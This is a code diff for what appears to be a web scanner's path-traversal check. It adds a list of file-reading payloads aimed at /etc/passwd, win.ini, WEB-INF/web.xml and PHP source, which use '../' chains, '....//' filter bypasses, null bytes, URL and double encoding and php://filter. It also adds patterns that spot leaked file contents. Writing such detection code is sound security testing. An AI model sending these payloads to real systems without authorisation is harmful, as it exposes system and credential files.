@@ -1,17 +1,23 @@
 import type { Exchange, InputPoint } from '../../ground/exchange.ts';
 import { likenessOf, similarity } from '../../ground/likeness.ts';
 import { ahead } from '../ahead.ts';
-import { causeOf, excerpt, placeOf } from '../answers.ts';
+import { excerpt, observationAt } from '../answers.ts';
 import type { ActiveCheck, Prober } from '../check.ts';
 import { echoOf } from '../echo.ts';
-import { common, thorough } from './payloads.ts';
-import { fileIn } from './proof.ts';
 
 const telling =
   /file|path|page|doc|templ|incl|dir|folder|img|image|photo|pic|down|view|load|read|lang|locale|theme|skin|style|layout|content|cont|mod|conf|log|report|attach|name|show|open|source|src|target|url|pg|^[fp]$/i;
 /** A name without an ending; numbers are names of files in hardly any place. */
 const isWord = /^[a-z][\w -]{0,100}$/i;
 const fileLike = /^[\w./\\ -]{0,200}\.[a-z0-9]{1,5}$|[/\\]/i;
+
+const up = '../'.repeat(10);
+
+/** The one that finds most, for any input at all: a full path by itself, and a way up behind a folder. */
+const common: readonly string[] = [`/${up}etc/passwd`];
+
+/** What a filter that takes '../' out once makes of it is '../'. */
+const upOnceFiltered = '....//';
 
 export const pathTraversal: ActiveCheck = {
   id: 'traversal',
@@ -46,14 +52,8 @@ export const pathTraversal: ActiveCheck = {
         value.replace(/passwd|win\.ini|web\.xml|resource=/, prober.canary()),
       );
       if (fileIn(control.response.body) !== null) return [];
-      return [
-        {
-          ...placeOf(point),
-          cause: causeOf(point),
-          evidence: `Sent ${value.replaceAll('\0', '%00')} as "${point.name}"; the answer shows ${proof.file}:\n${excerpt(answer.response.body, proof.index, 150)}`,
-          confidence: 'confirmed',
-        },
-      ];
+      const evidence = `Sent ${value.replaceAll('\0', '%00')} as "${point.name}"; the answer shows ${proof.file}:\n${excerpt(answer.response.body, proof.index, 150)}`;
+      return [observationAt(point, evidence)];
     }
     return [];
   },
@@ -71,7 +71,79 @@ async function isPath(point: InputPoint, usual: Exchange, prober: Prober): Promi
   const page = look(usual, point.value);
   const dotted = `./${point.value}`;
   const same = look(await prober.send(point, dotted), dotted);
-  if (similarity(page, same, new Set()) < 1) return false;
+  if (similarity(page, same) < 1) return false;
   const { exchange, word } = await echoOf(point, prober);
-  return similarity(page, look(exchange, word), new Set()) < 1;
+  return similarity(page, look(exchange, word)) < 1;
+}
+
+/**
+ * The descriptor of a web application (Jakarta Servlet 6.0, §10.5), which refuses to go further up than its own
+ * root: so as many folders up as the page at `url` is deep, one fewer where the first is the application's name,
+ * and one more where the value is put behind a folder.
+ */
+function descriptors(url: string): string[] {
+  const depth = new URL(url).pathname.split('/').length - 2;
+  const steps = new Set([0, 1, 2, depth - 1, depth, depth + 1].filter((count) => count >= 0));
+  const filtered = [depth - 1, depth].filter((count) => count > 0);
+  const ways = [
+    ...[...steps].map((count) => '../'.repeat(count)),
+    ...filtered.map((count) => upOnceFiltered.repeat(count)),
+  ];
+  return ['/', ...ways].map((way) => `${way}WEB-INF/web.xml`);
+}
+
+/** Ways around filters, for inputs that look as if they named a file; the likeliest first. */
+function thorough(usual: string, url: string): string[] {
+  // To satisfy filters that look at a value's ending, and those that look at its beginning.
+  const ending = /(\.[a-z0-9]{1,5})$/i.exec(usual)?.[1] ?? '';
+  const folder = /^(.{1,200}\/)[^/]*$/.exec(usual)?.[1] ?? '';
+  const name = usual.replace(/\.[a-z0-9]{1,5}$/i, '').slice(0, 100) || 'index';
+  return [
+    `${up}etc/passwd`,
+    '/etc/passwd',
+    ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
+    `${up}etc/passwd\0${ending}`,
+    ...(ending === '' ? [] : [`/etc/passwd\0${ending}`]),
+    ...[...new Set(['', folder])].map((start) => `${start}${upOnceFiltered.repeat(10)}etc/passwd`),
+    'file:///etc/passwd',
+    `${up.replaceAll('/', '%2f')}etc%2fpasswd`,
+    `${'..%2f'.repeat(10)}etc%2fpasswd`.replaceAll('%', '%25'),
+    `${up}windows/win.ini`,
+    `${'..\\'.repeat(10)}windows\\win.ini`,
+    'c:\\windows\\win.ini',
+    'c:/windows/win.ini',
+    ...descriptors(url),
+    `php://filter/convert.base64-encode/resource=${name}`,
+    `php://filter/convert.base64-encode/resource=${usual.slice(0, 100) || 'index.php'}`,
+  ];
+}
+
+/** Files that every machine of a kind has, and the words in them that nothing else has. */
+const proofs: readonly (readonly [string, RegExp])[] = [
+  // passwd(5): root's entry has user and group number 0.
+  ['/etc/passwd', /root:[^:\n<]{0,100}:0:0:[^:\n]{0,100}:[^:\n]{0,100}:/],
+  ['win.ini', /; for 16-bit app support\s+\[fonts\]/i],
+  [
+    'WEB-INF/web.xml',
+    /<web-app\b[^>]*>[\s\S]{0,20000}?<\/?(?:servlet|display-name|welcome-file|filter|listener|context-param)/i,
+  ],
+  // base64 of '<?php' at each of the places where it can stand.
+  ['a script’s own source', /(?:^|[\s>"'])PD9waH[A-Za-z0-9+/]{20,}/],
+];
+
+interface Proof {
+  file: string;
+  index: number;
+}
+
+/** The file whose content stands in the text, or null. */
+export function fileIn(text: string): Proof | null {
+  for (const [file, pattern] of proofs) {
+    const match = pattern.exec(text);
+    if (match !== null) return { file, index: match.index };
+    // Printed inside a page, its angle brackets are encoded.
+    const encoded = file === 'WEB-INF/web.xml' && /&lt;web-app\b/.exec(text);
+    if (encoded) return { file, index: encoded.index };
+  }
+  return null;
 }
